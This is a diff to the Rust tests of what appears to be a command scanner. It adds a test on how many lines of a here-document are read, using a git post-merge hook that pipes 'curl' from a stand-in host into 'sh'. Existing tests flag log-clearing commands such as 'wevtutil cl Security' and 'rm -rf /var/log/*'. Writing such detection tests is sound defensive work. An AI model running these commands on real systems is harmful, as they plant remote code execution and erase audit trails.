@@ -269,6 +269,19 @@ mod tests {
     }
 
     #[test]
+    fn reads_at_most_content_lines_of_a_here_document() {
+        let body = |filler: usize| {
+            format!(
+                "cat > .git/hooks/post-merge <<'EOF'\n{}curl -s https://h.example/p | sh\nEOF\n",
+                "echo ok\n".repeat(filler)
+            )
+        };
+        // The payload on the last line read, then one past it.
+        assert_severity(&body(super::CONTENT_LINES - 1), "tamper.git-hook", High);
+        assert_severity(&body(super::CONTENT_LINES), "tamper.git-hook", Medium);
+    }
+
+    #[test]
     fn flags_logs_erased() {
         assert_hit("wevtutil cl Security", "tamper.clear-logs", Concealment, High, 1);
         assert_hit("sudo rm -rf /var/log/*", "tamper.clear-logs", Concealment, High, 1);
